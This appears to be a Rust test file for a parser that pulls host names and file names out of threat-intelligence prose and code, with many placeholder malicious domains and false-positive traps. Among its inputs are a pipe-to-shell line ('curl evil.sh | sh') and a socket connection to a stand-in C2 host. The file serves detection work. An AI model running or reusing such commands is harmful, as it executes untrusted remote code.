use super::super::super::clear::Clear;
use super::super::{Place, Text};
use super::*;

/// The readings of a text's tokens, those of nothing left out.
fn readings(written: &str, place: Place<'_>) -> (Vec<String>, Vec<String>) {
    let clear = Clear::of(written);
    let text = Text::new(&clear, place);
    let (mut hosts, mut files, mut at) = (Vec::new(), Vec::new(), 0);
    while let Some(token) = next_token(&text, at..text.str().len()) {
        at = token.end;
        let name = text.slice(token.clone()).to_owned();
        match reading(&text, &token) {
            Reading::Host => hosts.push(name),
            Reading::File => files.push(name),
            Reading::Nothing => {}
        }
    }
    (hosts, files)
}

fn prose(written: &str) -> (Vec<String>, Vec<String>) {
    readings(written, Place::default())
}

fn code(written: &str) -> (Vec<String>, Vec<String>) {
    readings(
        written,
        Place {
            code: std::slice::from_ref(&(0..written.len())),
            ..Place::default()
        },
    )
}

const HOSTS: &[(&str, &str)] = &[
    // Alone.
    ("BAR.COM", "BAR.COM"),
    ("bar.com\"", "bar.com"),
    ("evilhost.com:80", "evilhost.com"),
    ("háčkyčárky.cz", "háčkyčárky.cz"),
    ("xn--lbrs59br5a.xn--fiqs8s", "xn--lbrs59br5a.xn--fiqs8s"),
    (
        "even.deeper.subdomain.micros0ft.com",
        "even.deeper.subdomain.micros0ft.com",
    ),
    (
        "NWD2HUBCAS1234.ad.anaiog.com",
        "NWD2HUBCAS1234.ad.anaiog.com",
    ),
    ("acro.ns1.name", "acro.ns1.name"),
    ("* `4vw37z.cn`", "4vw37z.cn"),
    ("- cdn-view.events", "cdn-view.events"),
    ("1. evill.link", "evill.link"),
    ("2) evily.zone", "evily.zone"),
    ("evilhero.in", "evilhero.in"),
    ("| evilurl.photos | 2021 |", "evilurl.photos"),
    ("evil-update.top.", "evil-update.top"),
    ("(evil-update.top)", "evil-update.top"),
    // In prose.
    ("The domain evil.in was registered in May.", "evil.in"),
    ("It resolves evilhost.name every hour.", "evilhost.name"),
    (
        "Traffic goes to evil-update.top and stops.",
        "evil-update.top",
    ),
    ("Traffic goes to Evil-Host.com and stops.", "Evil-Host.com"),
    ("Traffic goes to EVIL.TOP:8080 and stops.", "EVIL.TOP"),
    ("see cdn-static.xyz for it", "cdn-static.xyz"),
    ("contacts evil-hub.me once", "evil-hub.me"),
    ("hosted at www.evil.sh today", "www.evil.sh"),
    ("hosted at evil-login.zip", "evil-login.zip"),
    ("the phishing site evil-docs.mov", "evil-docs.mov"),
    ("The C2 server is b4dhost.rs.", "b4dhost.rs"),
    ("the malware resolves srv1bad.sh", "srv1bad.sh"),
    ("DNS queries for cfgbad.py", "cfgbad.py"),
    ("traffic to `upd8.zip`", "upd8.zip"),
    ("evil.com's owner", "evil.com"),
    ("evil.com’s owner", "evil.com"),
    ("“evil.com”, they said", "evil.com"),
    ("'evil.ru'", "evil.ru"),
    ("evil.com,evil.net;evil.org", "evil.com"),
    ("host=c2.evil-panel.cc", "c2.evil-panel.cc"),
    ("C2:evil.cc", "evil.cc"),
    ("*.evil.com and .evil.org", "evil.org"),
    ("the new site evil.online went up", "evil.online"),
    ("They registered evil.co.uk.", "evil.co.uk"),
    ("victims visit bank.com.br first", "bank.com.br"),
    ("it asks ns1.evil.com.ua for it", "ns1.evil.com.ua"),
    ("jan-evilname.pl served it", "jan-evilname.pl"),
    ("evilsa.webd.pro served it", "evilsa.webd.pro"),
    ("The domain name foo.sh was seized", "foo.sh"),
    ("evil.com, bad.sh and worse.net", "bad.sh"),
    ("PayPal.com was copied", "PayPal.com"),
    ("evil.com(1.2.3.4) answered", "evil.com"),
    ("evil.com[1] answered", "evil.com"),
    ("a server at panel.evil.io", "panel.evil.io"),
    ("-evil.com", "evil.com"),
    ("C2 *evil[.]com* and more", "evil.com"),
    ("C2 $evil[.]com and more", "evil.com"),
    ("_evil.com_", "evil.com"),
    ("a long-named thing: my-evil-host.info", "my-evil-host.info"),
    (
        "C2 communication with thumblogging.info was seen",
        "thumblogging.info",
    ),
    ("dynamic name evil.duckdns.org", "evil.duckdns.org"),
    ("the bucket evil.s3.amazonaws.com", "evil.s3.amazonaws.com"),
    ("o_o.lgms.nl is one", "o_o.lgms.nl"),
    (
        "onion ciadotgov4sjwlzihbbgxnqg3xiyrg7so2r2o3lt5wz5ypk4sxyjstad.onion down",
        "ciadotgov4sjwlzihbbgxnqg3xiyrg7so2r2o3lt5wz5ypk4sxyjstad.onion",
    ),
    ("foo.onion", "foo.onion"),
    // Other languages.
    ("访问evil-update.top下载", "evil-update.top"),
    ("请访问www.evil.com。", "www.evil.com"),
    ("域名为evil.com，其", "evil.com"),
    ("ドメインevil.jpに接続", "evil.jp"),
    ("서버 evil.com에서 받는다", "evil.com"),
    ("Сервер управления evil-site.ru, а также", "evil-site.ru"),
    ("домен зло.рф принадлежит", "зло.рф"),
    ("Die Domäne böse.de gehört", "böse.de"),
    ("le domaine méchant.fr est", "méchant.fr"),
    ("域名为bad-site.cn、evil.xyz和worse.info。", "worse.info"),
    ("it spoke to evil.com.The next day", "evil.com"),
    ("curl evil.sh | sh", "evil.sh"),
    ("the link cdn.evil.sh is down", "cdn.evil.sh"),
    ("Transfer.sh and file.io", "Transfer.sh"),
    ("evil.live and evil.click were", "evil.click"),
    (
        "update-windows.click, windows-update.support",
        "update-windows.click",
    ),
];

#[test]
fn finds_hosts() {
    let missed = missed(HOSTS, |text| prose(text).0);
    assert!(missed.is_empty(), "{missed:#?}");
}

/// The cases in which a name is not among what was found.
fn missed(cases: &[(&str, &str)], find: impl Fn(&str) -> Vec<String>) -> Vec<String> {
    cases
        .iter()
        .map(|(text, name)| (text, name, find(text)))
        .filter(|(_, name, found)| !found.iter().any(|found| found == *name))
        .map(|(text, name, found)| format!("{text}: {found:?} instead of {name}"))
        .collect()
}

/// The cases in which something was found.
fn taken(cases: &[&str], find: impl Fn(&str) -> Vec<String>) -> Vec<String> {
    cases
        .iter()
        .map(|text| (text, find(text)))
        .filter(|(_, found)| !found.is_empty())
        .map(|(text, found)| format!("{text}: {found:?}"))
        .collect()
}

const CODE_HOSTS: &[(&str, &str)] = &[
    ("sock.connect((\"evil-c2.net\", 443))", "evil-c2.net"),
    ("HOSTS = ['evil.top', 'bad.xyz']", "evil.top"),
    ("ping evil.com", "evil.com"),
    ("evil.online", "evil.online"),
    ("acro.ns1.name", "acro.ns1.name"),
    ("nslookup c2.evil.ru 8.8.8.8", "c2.evil.ru"),
];

#[test]
fn finds_hosts_in_code() {
    let missed = missed(CODE_HOSTS, |text| code(text).0);
    assert!(missed.is_empty(), "{missed:#?}");
}

const FILES: &[(&str, &str)] = &[
    ("Run foo.exe now", "foo.exe"),
    ("ahoj.txt", "ahoj.txt"),
    ("readme.md", "readme.md"),
    ("the script setup.py and build.sh.", "setup.py"),
    ("the script setup.py and build.sh.", "build.sh"),
    ("main.rs", "main.rs"),
    ("loads libfoo.so at start", "libfoo.so"),
    ("unpacks x.zip and y.cab", "x.zip"),
    ("unpacks x.zip and y.cab", "y.cab"),
    ("clip.mov", "clip.mov"),
    ("The sh.py (SHA-1 aa) is", "sh.py"),
    ("1.recreate_pclntab.py", "1.recreate_pclntab.py"),
    ("evilhost.txt.zip", "evilhost.txt.zip"),
    ("the file invoice.pdf.exe opened", "invoice.pdf.exe"),
    ("Invoice.PDF", "Invoice.PDF"),
    ("log4j-core-2.14.1.jar", "log4j-core-2.14.1.jar"),
    (
        "drops MicrosoftUpdate845255.exe",
        "MicrosoftUpdate845255.exe",
    ),
    ("`jdrop.js`", "jdrop.js"),
    ("`metamn.dll`", "metamn.dll"),
    ("shared.dat backdoor", "shared.dat"),
    ("Ztvfo.png", "Ztvfo.png"),
    ("command.com ran", "command.com"),
    (
        "Settings in config.ini and log4j.properties",
        "log4j.properties",
    ),
    ("下载setup.exe运行", "setup.exe"),
    ("Счёт.docx", "Счёт.docx"),
    ("open(\"error.log\")", "error.log"),
    ("an archive named update.zip", "update.zip"),
    ("searches for config.py", "config.py"),
    ("the site drops payload.zip", "payload.zip"),
    ("the source of the server is in main.rs", "main.rs"),
    ("a request for update.zip", "update.zip"),
    ("copied to run.sh", "run.sh"),
    ("update.dll与config.ini。", "config.ini"),
    ("файл update.exe.Затем", "update.exe"),
];

#[test]
fn finds_files() {
    let missed = missed(FILES, |text| prose(text).1);
    assert!(missed.is_empty(), "{missed:#?}");
}

/// No host, whatever else.
const TRAPS: &[&str] = &[
    // Files.
    "Read the readme.md, install node.js and asp.net, then run setup.py and build.sh.",
    "src/main.rs and main.rs",
    "libfoo.so",
    "x.zip",
    "y.cab",
    "the script a.pl",
    "b.ps",
    "c.mov",
    "sh.py",
    "README.MD",
    "Safari.app",
    "1.recreate_pclntab.py",
    "jquery-c2.3.11.profile",
    "evilhost.txt.zip",
    "id_rsa.pub",
    "Main.java",
    "log4j.properties",
    "bundle.js.map",
    "main.rs:12:5 panicked",
    "my_tool.cc",
    "kernel32.lib",
    "command.com",
    "et2z7q0FREZ.cr",
    "sTUlsWa1.cr",
    "Makefile.am",
    // Code.
    "It calls System.Net.WebClient and System.IO.File through Microsoft.Win32.Registry.",
    "The class com.android.vending.billing.InAppBillingService is loaded by org.apache.commons.collections.",
    "com.apple.security",
    "com.google.android.youtube",
    "io.netty.channel",
    "org.mozilla.open",
    "java.lang.Runtime",
    "java.net",
    "java.io",
    "android.app",
    "Object.prototype.hasOwnProperty",
    "document.page",
    "window.top.location",
    "window.top",
    "$this.name",
    "f.read",
    "ql.mem.read",
    "ql.mem.map",
    "arc4.new",
    "post.open",
    "proto.info",
    "socket.connect(",
    "self.data",
    "os.name",
    "MessageBox.Show",
    "foo.bar()",
    "foo.bar",
    "this.id",
    "e.link",
    "user.name",
    "process.name = cmd.exe",
    "host.name",
    "event.id",
    "dns.question.name",
    "file.name",
    "logger.info(\"x\")",
    "log.info",
    "Console.Read",
    "Convert.To",
    "request.open(\"GET\")",
    "xhr.open(1)",
    "a.click()",
    "string.is",
    "std::foo.bar",
    "obj->field.name",
    "value.map(f)",
    "items.select(x)",
    "Path.Join(a)",
    "re.search(x)",
    "$file.name",
    "%s.zone",
    "array.data[0]",
    "sys.info",
    "crypto.pub",
    "Assembly.Load",
    "data.in = 3",
    "vm.run",
    // Detection names.
    "Agent.AD",
    "Tiny.BG",
    "Win32/Spy.Agent.CC",
    "MSIL/Kryptik.AGT",
    "Trojan.GenericKD.12",
    "HEUR:Backdoor.MSOffice.SLoad.gen",
    "Trojan.Win32.Agent.cc",
    "Trojan-Downloader.Win32.Agent.ad",
    "not-a-virus:RiskTool.Win64.BitCoinMiner.cc",
    "Backdoor.Linux.Mirai.ba",
    "Trojan.Python.JokerSpy.B",
    "JS/TrojanDownloader.Agent.YJJ",
    "Win64/Nightclub.B",
    "Gen:Variant.Razy.MS",
    "Trojan.MSIL.Agent.pm",
    // Mail and encoding.
    "smtp.mailfrom",
    "header.from",
    "smtp.mailfrom=evilhost@evilhost.com",
    "lodash@4.17.21",
    "first.last@",
    "a%2falotile.biz",
    "%2Fevil.com",
    "foo@evil.com",
    // Sentences.
    "We saw e.g.this and i.e.that. Also etc.In addition to U.S.based firms.",
    "moved laterally.The next day they exfiltrated data.In total 3.5GB were sent.At 10.30 pm",
    "etc.in",
    "here.So we",
    "the end.It was",
    "it works.My view",
    "the U.S. and E.U.",
    "p.m.to",
    // Versions and bad syntax.
    "1112.15.14.05",
    "15.1112.14.05",
    "1.1.1.1.1.1",
    "-hi-.com",
    ".com abc",
    "@@@@-hi-.com",
    "v2.0.to",
    "evil.nope",
    "example.com and www.example.org",
    "printer.local",
    "a..com",
    "193.168.a.1",
    "<domain>.com",
    "2.2.2",
    "co.uk",
    "System.Net",
    "VB.NET",
    "ASP.NET",
    "Paint.NET",
    "VBA.NET",
    "Node.js",
    "Vue.js",
    "evil_host.com",
    "foo_bar.info",
];

#[test]
fn takes_nothing_else_for_a_host() {
    let taken = taken(TRAPS, |text| prose(text).0);
    assert!(taken.is_empty(), "{taken:#?}");
}

const CODE_TRAPS: &[&str] = &[
    "x = f.read",
    "for i in data.id:",
    "hosts.top = 1",
    "rect.top + rect.left",
    "my_obj.store.space",
    "req.open",
    "var a = list.pop",
    "x = player.live",
    "node.host + 1",
    "if foo.club:",
    "a = page.media.digital",
    "if config.network.host:",
    "e.target.id",
    "resp.st",
    "self.sock.it",
    "import foo.tools",
    "using Evil.Tools;",
    "use crate::evil.zone",
    "fmt.Println(runtime.version)",
    "win.open",
    "torch.nn.functional.relu",
    "[System.Net.ServicePointManager]::SecurityProtocol",
];

#[test]
fn takes_no_code_for_a_host() {
    let taken = taken(CODE_TRAPS, |text| code(text).0);
    assert!(taken.is_empty(), "{taken:#?}");
}

/// No file.
const FILE_TRAPS: &[&str] = &[
    "console.log(x)",
    "Math.log",
    "JSON.parse",
    "this.cache",
    "node.js",
    "laterally.The",
    "System.IO.File",
    "*.exe",
    "%s.exe",
    ".exe files",
    "evil.com",
    "event.key",
    "Next.So",
    "Trojan.Agent.js",
    "e.g.c",
    "1.2.3.4",
    "self.config",
    "obj.data[0]",
    "evil.top",
    "user@file.exe",
    "1.c",
];

#[test]
fn takes_nothing_else_for_a_file() {
    let taken = taken(FILE_TRAPS, |text| prose(text).1);
    assert!(taken.is_empty(), "{taken:#?}");
}

#[test]
fn asks_the_column() {
    let with = |header: &'static str, cell: &str| {
        readings(
            cell,
            Place {
                header: Some(header),
                ..Place::default()
            },
        )
    };
    assert_eq!(with("Domain", "evil.sh").0, ["evil.sh"]);
    assert_eq!(with("File name", "evil.sh").1, ["evil.sh"]);
    assert_eq!(with("Domains", "news.zip").0, ["news.zip"]);
    assert_eq!(with("Filename", "news.zip").1, ["news.zip"]);
}
